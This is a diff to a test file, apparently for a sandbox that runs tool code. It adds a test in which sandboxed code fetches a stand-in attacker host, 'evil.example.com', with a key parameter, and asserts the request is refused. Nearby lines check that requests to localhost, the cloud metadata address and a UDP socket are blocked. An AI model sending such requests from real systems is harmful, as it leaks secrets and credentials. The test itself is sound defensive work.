@@ -90,6 +90,11 @@ describeSlow('a program that serves tools', () => {
 		expect(await get(`127.0.0.1:${port}/other`)).toMatch(/^403/);
 		expect(await get(`127.0.0.1:${port}/open`, 'POST')).toMatch(/^403/);
 		expect(await get('169.254.169.254/latest')).toMatch(/^403/);
+		const { sandbox } = await tools[0]!.call(
+			{ code: `fetch('https://evil.example.com/x?key=1')` },
+			{ signal: never, idempotencyKey: 'k', resultCharacters: 9 },
+		);
+		expect(sandbox).toMatchObject({ requests: [{ method: 'GET', host: 'evil.example.com', path: '/x?key', action: 'refuse' }] });
 		const raw = `new Promise((resolve, reject) => {
 			const socket = require('node:dgram').createSocket('udp4').on('error', reject);
 			socket.send('x', ${port}, '127.0.0.1', (error) => (error ? reject(error) : resolve('sent')));
